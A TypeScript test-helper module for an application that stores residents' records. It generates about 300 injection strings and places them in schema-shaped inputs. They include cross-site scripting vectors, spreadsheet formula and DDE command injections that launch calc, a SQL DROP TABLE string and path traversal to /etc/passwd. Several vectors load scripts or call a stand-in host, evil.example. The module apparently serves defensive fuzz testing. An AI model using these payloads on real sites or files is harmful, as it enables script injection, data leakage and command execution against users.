/** What somebody with bad intent would type: scripts for a page, formulas for a spreadsheet. */
import { randomUUID } from 'node:crypto'
import { z } from 'zod'
import type { Random } from '#demonstration/random'
import { filledInput } from './filled-input'

/** A script that leaves a trace where a test can see it. */
export const trace = 'linliRan'

const run = `window.${trace}=1`
const elsewhere = '//evil.example/x'

const scripts: readonly string[] = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `</script><script>${run}</script>`,
  `<script src=${elsewhere}></script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="alert(1)">`,
  `<img src=http:${elsewhere}>`,
  `<image src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x>`,
  `<math><mtext></mtext><script>${run}</script></math>`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<video><source onerror=${run}>`,
  `<audio src=x onerror=${run}>`,
  `<iframe src=javascript:${run}>`,
  `<iframe srcdoc="<script>parent.${trace}=1</script>">`,
  `<object data=javascript:${run}>`,
  `<embed src=javascript:${run}>`,
  `<a href=javascript:${run}>点我</a>`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `<form action=javascript:${run}><button>x`,
  `<base href=http:${elsewhere}>`,
  `<link rel=stylesheet href=http:${elsewhere}>`,
  `<meta http-equiv=refresh content="0;url=http:${elsewhere}">`,
  `<style>@import 'http:${elsewhere}';</style>`,
  `<style>*{background:url(http:${elsewhere})}</style>`,
  `<div style="background:url(http:${elsewhere})">`,
  `<div style="width:expression(${run})">`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `" onmouseover=${run} x="`,
  `' autofocus onfocus=${run} x='`,
  `\`-${run}-\``,
  `\${${run}}`,
  `#{${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `{{=${run}}}`,
  `<%= ${run} %>`,
  `$t(action.save)`,
  `{{name}} {{count}}`,
  `<!--><script>${run}</script>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `\\u003cscript\\u003e${run}`,
  `＜script＞${run}＜/script＞`,
  `<scr\u200bipt>${run}</scr\u200bipt>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<x contenteditable onblur=${run}>`,
  `<marquee onstart=${run}>`,
  `<isindex action=javascript:${run} type=image>`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `';${run};//`,
  `*/${run}/*`,
]

const formulas: readonly string[] = [
  `=1+1`,
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http:${elsewhere}","点我")`,
  `=WEBSERVICE("http:${elsewhere}")`,
  `=IMPORTXML("http:${elsewhere}","//a")`,
  `=DDE("cmd","/C calc","x")`,
  `=SUM(A1:A9)*cmd|' /C calc'!A0`,
  `=-1+cmd|' /C calc'!A0`,
  `+1+1`,
  `+cmd|' /C calc'!A0`,
  `-1+1`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `＝1+1`,
  `＋1+1`,
  `－1+1`,
  `＠SUM(1)`,
  `%=1+1`,
  `;=1+1`,
  `,=1+1`,
  `"=1+1"`,
  `'=1+1`,
  `|calc`,
]

const oddities: readonly string[] = [
  `\u202e=1+1`,
  `\u202egnp.exe\u202c`,
  `\u2066=1+1\u2069`,
  `\u200f=cmd|x`,
  `\ufeff=1+1`,
  `\u00a0=1+1`,
  `\u3000=1+1`,
  `王\u0301\u0301\u0301\u0301`,
  `𠮷𩸽`,
  `'; DROP TABLE residents; --`,
  `%_\\`,
  `../../../etc/passwd`,
  `C:\\con\\con`,
  `null`,
  `undefined`,
  `NaN`,
  `__proto__`,
  `constructor`,
  `[object Object]`,
  `\ud83d\ude00`,
]

/** Before a formula: what a spreadsheet may pass over on its way to it. */
const prefixes: readonly string[] = ['', ' ', '\t', '\r', '\n', '\u3000', '\u200b']

const many: readonly string[] = [
  ...scripts,
  ...formulas.flatMap((formula) => prefixes.map((prefix) => `${prefix}${formula}`)),
  ...oddities,
  ...scripts.map((script) => `王${script}`),
]

/** Three hundred of them, each once. */
export const payloads: readonly string[] = [...new Set(many)].slice(0, 300)

/** An input with the payload where a text fits, and days and codes where only those do; of the first three of everything. */
export function payloadInput(schema: unknown, payload: string, random: Random): unknown {
  if (!(schema instanceof z.ZodType)) throw new Error('every input is a zod schema')
  return filledInput(schema, {
    random,
    texts: () => [payload, '2026-11-01', '2026-11', 'code', 'QZ', '{}'],
    known: (field) => {
      if (field === 'sendId') return [randomUUID()]
      if (field === 'residentId' || field === 'id') return [1, 2, 3]
      if (field === 'idKind') return [null]
      return field === 'phones' || field === 'contacts' ? [[]] : []
    },
  })
}
